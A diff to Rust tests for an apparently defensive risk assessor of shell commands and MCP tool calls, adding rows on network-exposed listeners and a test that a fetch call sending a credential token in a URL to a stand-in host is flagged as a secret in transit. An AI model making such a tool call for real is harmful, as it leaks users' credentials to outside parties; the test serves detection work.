@@ -178,6 +178,8 @@ fn exposure_rows() {
         ("docker run -p 0.0.0.0:6379:6379 redis", High),
         ("acmesrv --listen '[::]:8080'", High),
         ("acmesrv --bind '*'", High),
+        ("acmesrv --host :: --port 80", High),
+        ("borg list ::", Low),
         (
             "socat TCP-LISTEN:80,fork,bind=0.0.0.0 TCP:localhost:8080",
             High,
@@ -297,4 +299,21 @@ fn secrets_in_motion_rows() {
     );
     assert!(a.risk.factors.iter().any(|f| f == "secret_in_transit"));
     assert!(a.segments.iter().all(|s| s.pattern.is_none()));
+    // An MCP tool's URL argument is judged the same way.
+    let args = format!(r#"{{"url":"https://x.example/hook?token={gh}"}}"#);
+    let m = crate::risk::assess_arguments("fetcher", "fetch", &args, &ctx());
+    assert!(
+        m.risk.factors.iter().any(|f| f == "secret_in_transit"),
+        "{:?}",
+        m.risk
+    );
+    assert!(m.risk.tier >= High);
+    // Without a credential, the same URL is not.
+    let m = crate::risk::assess_arguments(
+        "fetcher",
+        "fetch",
+        r#"{"url":"https://x.example/hook?page=2"}"#,
+        &ctx(),
+    );
+    assert!(!m.risk.factors.iter().any(|f| f == "secret_in_transit"));
 }
